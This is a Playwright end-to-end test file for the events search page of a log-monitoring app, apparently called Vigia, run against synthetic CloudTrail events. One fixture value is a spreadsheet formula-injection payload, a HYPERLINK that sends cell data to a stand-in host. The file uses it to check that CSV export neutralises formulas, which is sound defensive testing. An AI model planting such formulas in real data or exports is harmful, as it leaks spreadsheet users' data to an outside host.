import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeBrowser, cloudTrail, expectAccessible, looks, openTab, Server, settled, shot } from './fixture';
import { texts } from './texts';

const ago = (minutes: number) => new Date(Date.now() - minutes * 60_000);
const person = (name: string) => ({
    type: 'IAMUser',
    principalId: `AIDAEXAMPLE${name.toUpperCase()}`,
    arn: `arn:aws:iam::111122223333:user/${name}`,
    accountId: '111122223333',
    accessKeyId: 'AKIAEXAMPLE000000001',
    userName: name,
});
const times = <T>(count: number, make: (at: number) => T) => Array.from({ length: count }, (_, at) => make(at));

/** What a spreadsheet would run, were it not written as text. */
const formula = '=HYPERLINK("http://192.0.2.99/?"&A1,"open")';
const pushes = times(30, (at) => cloudTrail({ eventName: 'PutImage' }, ago(60 + at)));
const refused = times(12, (at) =>
    cloudTrail(
        {
            eventName: 'GetAuthorizationToken',
            awsRegion: 'us-east-1',
            userIdentity: person('bob'),
            sourceIPAddress: '198.51.100.7',
            ...(at < 5 ? { errorCode: 'AccessDenied' } : {}),
        },
        ago(300 + at),
    ),
);
const sessions = times(3, (at) =>
    cloudTrail(
        {
            eventSource: 'ssm.amazonaws.com',
            eventName: 'StartSession',
            userIdentity: person('carla'),
            sourceIPAddress: '203.0.113.50',
            userAgent: formula,
            requestParameters: { target: `i-0a1b2c3d4e5f6071${at}` },
        },
        ago(10 + at),
    ),
);
const started = {
    _id: '00000000-0000-4000-9000-00000000e7e1',
    event_type: 'audit',
    event_time: ago(5).getTime(),
    timestamp: ago(5).getTime(),
    host_metadata: { hostname: 'ip-10-0-4-99' },
    type: 'start',
    syscall: 'execve',
    success: true,
    pid: 4100,
    ppid: 1,
    user: 'root',
    exe: '/usr/bin/bash',
    arguments: '/usr/bin/bash -l',
    session: 91,
};
const all = [...pushes, ...refused, ...sessions, started];

/** The rows of a Parquet file as CSV, by the database library that the tests of the server stand on. */
function rowsOfParquet(path: string, columns: string): string {
    const modules = resolve(import.meta.dirname, '../../tools/duckdb/node_modules/@duckdb');
    const folder = readdirSync(modules).find((name) => existsSync(resolve(modules, name, 'libduckdb.so')))!;
    const program = `
import ctypes, sys
library, database, connection = ctypes.CDLL(sys.argv[1]), ctypes.c_void_p(), ctypes.c_void_p()
assert library.duckdb_open(None, ctypes.byref(database)) == 0
assert library.duckdb_connect(database, ctypes.byref(connection)) == 0
assert library.duckdb_query(connection, sys.argv[2].encode(), None) == 0`;
    const query = `copy (select ${columns} from read_parquet('${path}') order by id) to '${path}.csv' (header)`;
    execFileSync('python3', ['-c', program, resolve(modules, folder, 'libduckdb.so'), query]);
    return readFileSync(`${path}.csv`, 'utf8');
}

describe('events', () => {
    const server = new Server();
    const nothing = new Server();
    beforeAll(async () => {
        await server.start();
        await nothing.start();
        expect((await server.send(all)).accepted).toBe(all.length);
    });
    afterAll(async () => {
        await closeBrowser();
        await server.stop();
        await nothing.stop();
    });

    const counted = (page: Page, count: number, language: 'en' | 'pt-BR' = 'en') =>
        page.getByRole('heading', { level: 1, name: `${texts(language)('events.title')} (${count})` }).waitFor();
    const filterOf = (page: Page) => new URL(page.url()).searchParams.get('filter');
    const editor = (page: Page) => page.locator('.vg-events-filter .cm-content');
    const rows = (page: Page) => page.locator('.vg-grid-row');
    const open = async (page: Page, query = '') => {
        await page.goto(`/events${query}`);
        await settled(page);
        await editor(page).waitFor();
    };
    /** Writes a filter in the place of the one that stands there. */
    const write = async (page: Page, text: string) => {
        await editor(page).click();
        await page.keyboard.press('Control+a');
        await page.keyboard.insertText(text);
        await page.keyboard.press('Escape');
    };

    it('finds what the filter says, which the URL keeps, and shows how it was asked', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page);
        await counted(page, all.length);
        await shot(page, 'events');
        await write(page, 'user = "bob" and errorCode exists');
        await page.getByText('The filter was changed; Enter searches with it.').waitFor();
        await page.keyboard.press('Enter');
        await counted(page, 5);
        expect(filterOf(page)).toBe('user = "bob" and errorCode exists');
        await expect.poll(() => rows(page).count()).toBe(5);
        for (const text of await rows(page).allTextContents())
            expect(text).toContain('ecr:GetAuthorizationToken (AccessDenied)');
        await page.getByRole('button', { name: 'How it is searched' }).click();
        await page.getByText('The columns of the store answer the filter by themselves').waitFor();
        await expectAccessible(page);
        // Both ways through the history.
        await page.goBack();
        await counted(page, all.length);
        await expect.poll(() => editor(page).textContent()).toContain('A filter, such as');
        await page.goForward();
        await counted(page, 5);
        await expect.poll(() => editor(page).textContent()).toBe('user = "bob" and errorCode exists');
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('looks into a span that is drawn in the histogram, and wider around it by a double click', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page);
        const plot = page.locator('.u-over');
        await plot.waitFor();
        const box = (await plot.boundingBox())!;
        // The plot shows the last 24 hours; what Bob did is from 300 to 312 minutes old.
        const at = (minutes: number) => box.x + box.width * (1 - minutes / 1440);
        await page.mouse.move(at(345), box.y + 30);
        await page.mouse.down();
        await page.mouse.move(at(270), box.y + 30, { steps: 6 });
        await page.mouse.up();
        await page.waitForURL('**from=*until=*');
        await counted(page, 12);
        await settled(page);
        await shot(page, 'events-span');
        const span = () => {
            const { searchParams } = new URL(page.url());
            return Date.parse(searchParams.get('until')!) - Date.parse(searchParams.get('from')!);
        };
        const drawn = span();
        await page.getByRole('button', { name: 'As a table' }).click();
        await page.getByRole('table').first().waitFor();
        await page.locator('.u-over').dblclick();
        await expect.poll(span).toBeGreaterThan(drawn);
        await page.goBack();
        await expect.poll(span).toBe(drawn);
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('narrows by the values of fields, with and without them, and counts fields that are wanted', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page);
        await page.getByRole('button', { name: 'Only user = bob' }).click();
        await counted(page, 12);
        expect(filterOf(page)).toBe('user = "bob"');
        await page.getByRole('button', { name: 'Without errorCode = AccessDenied' }).click();
        await counted(page, 7);
        expect(filterOf(page)).toBe('user = "bob" and errorCode != "AccessDenied"');
        // Its opposite takes the place of a condition.
        await page.getByRole('button', { name: 'Without user = bob' }).click();
        await counted(page, all.length - 12);
        expect(filterOf(page)).toBe('user != "bob" and errorCode != "AccessDenied"');
        await page.getByRole('combobox', { name: 'Another field' }).fill('requestParameters.target');
        await page.keyboard.press('Enter');
        await page.getByRole('button', { name: 'Only requestParameters.target = i-0a1b2c3d4e5f60711' }).click();
        await counted(page, 1);
        await page.getByRole('button', { name: 'Remove requestParameters.target' }).click();
        await page.getByRole('button', { name: 'Remove requestParameters.target' }).waitFor({ state: 'detached' });
        await page.getByRole('button', { name: 'Hide values' }).click();
        await page.getByRole('button', { name: 'Show values' }).click();
        await page.getByRole('button', { name: 'Only user = carla' }).waitFor();
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('shows the columns that are chosen, of any path, and keeps them for the person', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page);
        await page.getByRole('button', { name: 'Columns' }).click();
        const dialog = page.getByRole('dialog');
        await dialog.waitFor();
        await expectAccessible(page);
        await shot(page, 'events-columns');
        await dialog.getByRole('textbox', { name: 'Any other path' }).fill('requestParameters.target');
        await dialog.getByRole('button', { name: 'Add' }).click();
        await dialog.getByText('requestParameters.target').waitFor();
        await dialog.getByRole('button', { name: 'Confirm' }).click();
        await page.waitForURL('**columns=*requestParameters.target*');
        await dialog.waitFor({ state: 'detached' });
        await page.getByRole('columnheader', { name: 'requestParameters.target' }).waitFor();
        await page.getByRole('gridcell', { name: 'i-0a1b2c3d4e5f60710' }).waitFor();
        // Another tab of the same person begins with them.
        const other = await tab.context.newPage();
        await other.goto('/events');
        await other.getByRole('columnheader', { name: 'requestParameters.target' }).waitFor();
        await other.close();
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('shows an event as a table and as JSON, of which each value narrows the search', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page, '?columns=%24what,user,ip');
        await rows(page).filter({ hasText: 'ssm:StartSession' }).first().click();
        await page.waitForURL('**open=*');
        const values = page.locator('.vg-leaves');
        await values.getByText('i-0a1b2c3d4e5f60710').waitFor();
        await settled(page);
        await expectAccessible(page);
        await shot(page, 'events-open');
        await page.getByRole('searchbox', { name: 'Find a field or a value' }).fill('TARGET');
        await expect.poll(() => values.locator('tbody tr').count()).toBe(1);
        await page.getByRole('button', { name: 'Show requestParameters.target as a column' }).click();
        await page.getByRole('columnheader', { name: 'requestParameters.target' }).waitFor();
        await page.getByRole('searchbox', { name: 'Find a field or a value' }).fill('');
        await page.getByRole('button', { name: 'Only this eventName' }).click();
        await counted(page, 3);
        expect(filterOf(page)).toBe('eventName = "StartSession"');
        await page.getByRole('tab', { name: 'JSON' }).click();
        const json = page.getByRole('tabpanel', { name: 'JSON' });
        await json.getByText('i-0a1b2c3d4e5f60710').waitFor();
        await expectAccessible(page);
        await shot(page, 'events-json');
        await json.getByRole('button', { name: 'Without this requestParameters.target' }).click();
        await counted(page, 2);
        expect(filterOf(page)).toBe('eventName = "StartSession" and requestParameters.target != "i-0a1b2c3d4e5f60710"');
        await page.getByRole('link', { name: 'Open as a page' }).click();
        await page.waitForURL(`**/events/${sessions[0]!.eventID}`);
        await page.getByRole('heading', { level: 1, name: 'StartSession' }).waitFor();
        await page.getByRole('link', { name: 'arn:aws:iam::111122223333:user/carla' }).waitFor();
        await settled(page);
        await expectAccessible(page);
        await shot(page, 'event');
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('follows new events as they come, holds them while it pauses, and keeps to the filter', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page, '?filter=eventSource%20%3D%20%22kms.amazonaws.com%22');
        await page.getByText('Nothing in this span of time matches the filter').waitFor();
        await page.getByRole('button', { name: 'Follow' }).click();
        await page.getByText('New events appear as they are stored').waitFor();
        await page.mouse.move(10, 10);
        const decrypt = (name: string) => cloudTrail({ eventSource: 'kms.amazonaws.com', eventName: name });
        await server.send([decrypt('Decrypt'), cloudTrail({ eventName: 'ListImages' })]);
        await rows(page).filter({ hasText: 'kms:Decrypt' }).waitFor();
        expect(await rows(page).count()).toBe(1);
        await page.getByRole('button', { name: 'Pause' }).click();
        await page.getByText('Paused', { exact: true }).waitFor();
        await server.send([decrypt('Encrypt'), decrypt('ReEncrypt')]);
        const waiting = page.getByRole('button', { name: '2 new' });
        await waiting.waitFor();
        expect(await rows(page).count()).toBe(1);
        await expectAccessible(page);
        await shot(page, 'events-live');
        await waiting.click();
        await expect.poll(() => rows(page).count()).toBe(3);
        expect(await rows(page).first().textContent()).toContain('kms:ReEncrypt');
        // The URL restores the tail; what was stored before it is found by the search.
        await page.reload();
        await page.getByText('New events appear as they are stored').waitFor();
        await page.getByRole('button', { name: 'Stop following' }).click();
        await counted(page, 3);
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('keeps searches by name, which others see when they are shared', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page, '?filter=user%20%3D%20%22bob%22&range=7d');
        await page.getByRole('button', { name: 'Saved views' }).click();
        await page.getByRole('menuitem', { name: 'Save this view…' }).click();
        const dialog = page.getByRole('dialog');
        await dialog.getByRole('button', { name: 'Save', exact: true }).click();
        await dialog.getByText('A name is needed').waitFor();
        await dialog.getByLabel('Name').fill('What Bob does');
        await dialog.getByRole('checkbox', { name: 'Others of the organisation see it too' }).check();
        await expectAccessible(page);
        await dialog.getByRole('button', { name: 'Save', exact: true }).click();
        await dialog.waitFor({ state: 'detached' });
        await open(page);
        await page.getByRole('button', { name: 'Saved views' }).click();
        await page.getByRole('menuitem', { name: 'What Bob does' }).click();
        await page.waitForURL((url) => url.searchParams.get('range') === '7d');
        await counted(page, 12);
        await page.getByRole('button', { name: 'Saved views' }).click();
        await page.getByRole('menuitem', { name: 'Remove a view…' }).click();
        await dialog.getByText('Others see this view; it is gone for them too.').waitFor();
        await dialog.getByRole('button', { name: 'Remove', exact: true }).click();
        await dialog.waitFor({ state: 'detached' });
        const left = await tab.context.request.get('/api/v1/searches');
        expect(await left.json()).toMatchObject({ searches: [] });
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('exports what was found as CSV without formulas, as NDJSON and as Parquet', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page, '?filter=eventName%20%3D%20%22StartSession%22&columns=%24what,user,userAgent');
        await counted(page, 3);
        const exported = async (item: string): Promise<[Download, string]> => {
            await page.getByRole('button', { name: 'Export' }).click();
            const download = page.waitForEvent('download');
            await page.getByRole('menuitem', { name: item }).click();
            const file = await download;
            expect(await file.failure()).toBeNull();
            return [file, await file.path()];
        };
        const [csv, csvPath] = await exported('CSV, these columns');
        expect(csv.suggestedFilename()).toMatch(/\.csv$/);
        const lines = readFileSync(csvPath, 'utf8').trim().split(/\r?\n/);
        expect(lines[0]).toBe(
            'time,id,type,event_type,eventSource,eventName,errorCode,arguments,filename,user,userAgent',
        );
        expect(lines.length).toBe(4);
        for (const line of lines.slice(1)) {
            expect(line).toContain(',carla,');
            expect(line.endsWith(`,"'${formula.replaceAll('"', '""')}"`), line).toBe(true);
        }
        const [ndjson, ndjsonPath] = await exported('NDJSON, whole events');
        expect(ndjson.suggestedFilename()).toMatch(/\.ndjson$/);
        const events = readFileSync(ndjsonPath, 'utf8')
            .trim()
            .split('\n')
            .map((line) => JSON.parse(line) as { id: string; record: unknown });
        expect(events.map(({ record }) => record)).toEqual(sessions);
        const [parquet, parquetPath] = await exported('Parquet, whole events');
        expect(parquet.suggestedFilename()).toMatch(/\.parquet$/);
        const stored = rowsOfParquet(parquetPath, 'id, eventName, userAgent').trim().split('\n');
        expect(stored[0]).toBe('id,eventName,userAgent');
        // A program reads these; there the value stands as it came.
        expect(stored.slice(1)).toEqual(
            sessions.map(({ eventID }) => `${eventID},StartSession,"${formula.replaceAll('"', '""')}"`).sort(),
        );
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('makes a rule of the search, which fires on the next event', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page);
        expect(await page.getByRole('button', { name: 'Make a rule' }).isDisabled()).toBe(true);
        await write(page, 'eventName = "PutImage" and ip = "198.51.100.201"');
        await page.keyboard.press('Enter');
        await page.getByText('Nothing in this span of time matches the filter').waitFor();
        await page.getByRole('button', { name: 'Make a rule' }).click();
        await page.waitForURL('**/rules/new?filter=*');
        await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Images pushed from elsewhere');
        await page.getByRole('button', { name: 'Make the rule' }).click();
        await page.getByRole('heading', { level: 1, name: 'Images pushed from elsewhere' }).waitFor();
        const rule = /\/rules\/([^?]+)/.exec(page.url())![1]!;
        const fired = async () =>
            (await server.call<{ alerts: unknown[] }>('GET', `/api/v1/alerts?rule=${rule}`)).alerts.length;
        expect(await fired()).toBe(0);
        await server.send([
            cloudTrail({ eventName: 'PutImage' }),
            cloudTrail({ eventName: 'PutImage', sourceIPAddress: '198.51.100.201' }),
        ]);
        await expect.poll(fired).toBe(1);
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('restores the whole view from its URL', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        const from = ago(400).toISOString();
        const until = ago(200).toISOString();
        const wanted = new URLSearchParams({
            filter: 'user = "bob" # a comment, "quoted" & more',
            from,
            until,
            columns: '$what,userAgent',
            open: String(refused[3]!.eventID),
        });
        await open(page, `?${wanted}`);
        await counted(page, 12);
        await expect.poll(() => editor(page).textContent()).toBe(wanted.get('filter'));
        await page.locator('.vg-leaves').getByText(String(refused[3]!.eventID)).waitFor();
        expect(await page.getByRole('grid').getByRole('columnheader').count()).toBe(3);
        await expect
            .poll(() => page.locator('.vg-grid-row[aria-selected="true"]').textContent())
            .toContain('GetAuthorizationToken (AccessDenied)');
        // What the page itself wrote into the address restores the same.
        await page.getByRole('tab', { name: 'JSON' }).click();
        await page.reload();
        await counted(page, 12);
        await page.locator('.vg-leaves').getByText(String(refused[3]!.eventID)).waitFor();
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('is worked by keys alone', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await open(page);
        await page.keyboard.press('/');
        await page.keyboard.insertText('user = "carla"');
        await page.keyboard.press('Escape');
        await page.keyboard.press('Enter');
        await counted(page, 3);
        // The count can be there before the rows, of which keys step over those that are drawn.
        await rows(page).nth(2).waitFor();
        await page.keyboard.press('Escape');
        // Out of the editor, then from row to row.
        await page.keyboard.press('Tab');
        const focused = () => page.evaluate(() => document.activeElement?.getAttribute('data-index') ?? null);
        await page.keyboard.press('j');
        await expect.poll(focused).toBe('0');
        await page.keyboard.press('j');
        await expect.poll(focused).toBe('1');
        await page.keyboard.press('ArrowDown');
        await expect.poll(focused).toBe('2');
        await page.keyboard.press('Home');
        await expect.poll(focused).toBe('0');
        await page.keyboard.press('Enter');
        const opened = () => new URL(page.url()).searchParams.get('open');
        await expect.poll(opened).toBe(sessions[0]!.eventID);
        await page.locator('.vg-leaves').getByText('i-0a1b2c3d4e5f60710').waitFor();
        await page.keyboard.press('j');
        await expect.poll(opened).toBe(sessions[1]!.eventID);
        await page.keyboard.press('k');
        await expect.poll(opened).toBe(sessions[0]!.eventID);
        // The panel's buttons are reached by the keys too.
        await page.getByRole('button', { name: 'Only this sourceIPAddress' }).focus();
        await page.keyboard.press('Enter');
        await expect.poll(() => filterOf(page)).toBe('user = "carla" and sourceIPAddress = "203.0.113.50"');
        await page.keyboard.press('Escape');
        await expect.poll(opened).toBeNull();
        await page.keyboard.press('l');
        await page.getByText('New events appear as they are stored').waitFor();
        await page.keyboard.press('l');
        await counted(page, 3);
        await page.keyboard.press('?');
        await page.getByRole('dialog').getByText('Write the filter').waitFor();
        await expectAccessible(page);
        await page.keyboard.press('Escape');
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('says why there is nothing, what is wrong, and what now', async () => {
        const empty = await openTab(nothing);
        await empty.page.goto('/events');
        await empty.page.getByText('No source has sent events yet').waitFor();
        await expectAccessible(empty.page);
        await shot(empty.page, 'events-no-source');
        await empty.page.getByRole('button', { name: 'Connect a source' }).click();
        await empty.page.waitForURL('**/start');
        expect(empty.faults).toEqual([]);
        await empty.close();

        const tab = await openTab(server);
        const { page } = tab;
        await open(page, '?filter=user%20%3D%20%22Alice%22');
        await page.getByText('Nothing in this span of time matches the filter').waitFor();
        await page.getByRole('button', { name: 'Look further back' }).click();
        await page.waitForURL('**range=7d*');
        await page.getByRole('button', { name: 'Without the filter' }).click();
        await page.waitForURL((url) => !url.searchParams.has('filter'));
        await rows(page).first().waitFor();

        // A filter that cannot be read: nothing is shown but what is wrong with it, at its place.
        for (const part of ['', '/count', '/histogram', '/facets']) tab.expected.add(`GET /api/v1/events${part}`);
        await open(page, '?filter=user%20%3D');
        await page.getByText('The filter cannot be read; what is wrong with it is marked below it.').waitFor();
        await page.getByRole('button', { name: 'Expected a value' }).waitFor();
        expect(await rows(page).count()).toBe(0);
        await expectAccessible(page);
        await shot(page, 'events-unreadable');

        // The server does not answer: what was typed stays, and the page goes on when it is back.
        await open(page);
        await rows(page).first().waitFor();
        await page.route('**/api/v1/events?**', (route) => route.abort());
        await write(page, 'user = "bob"');
        await page.keyboard.press('Enter');
        await page.getByText('Vigia does not answer').first().waitFor();
        await page.getByText('The events could not be loaded').waitFor();
        await expect.poll(() => editor(page).textContent()).toBe('user = "bob"');
        await expectAccessible(page);
        await shot(page, 'events-unreachable');
        await page.unroute('**/api/v1/events?**');
        await page.getByRole('button', { name: 'Try again' }).first().click();
        await counted(page, 12);
        await rows(page).first().waitFor();

        tab.expected.add('GET /api/v1/events/none');
        await page.goto('/events/none');
        await page.getByRole('alert').or(page.locator('[class*="awsui_alert"]')).first().waitFor();
        await expectAccessible(page);
        await shot(page, 'event-none');
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it.each(looks)('keeps to the rules of accessibility: $language, $theme, $width pixels', async (look) => {
        const { language, theme, width } = look;
        const t = texts(language);
        const tab = await openTab(server, look);
        const { page } = tab;
        const looked = async (name: string) => {
            await expectAccessible(page);
            await shot(page, `events-${name}-${width}-${theme}-${language}`);
            expect(await page.locator('h1').count(), name).toBe(1);
            const beyond = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
            expect(beyond, name).toBeLessThanOrEqual(0);
        };
        await open(page);
        await rows(page).first().waitFor();
        await looked('list');
        await page.getByRole('button', { name: t('events.columns'), exact: true }).click();
        await page.getByRole('dialog').waitFor();
        await looked('columns');
        await open(page, `?open=${sessions[0]!.eventID}`);
        await page.locator('.vg-leaves').waitFor();
        await looked('open');
        await page.goto(`/events/${sessions[0]!.eventID}`);
        await page.getByRole('heading', { level: 2, name: t('events.record') }).waitFor();
        await settled(page);
        await looked('event');
        expect(tab.faults).toEqual([]);
        await tab.close();
    });
});
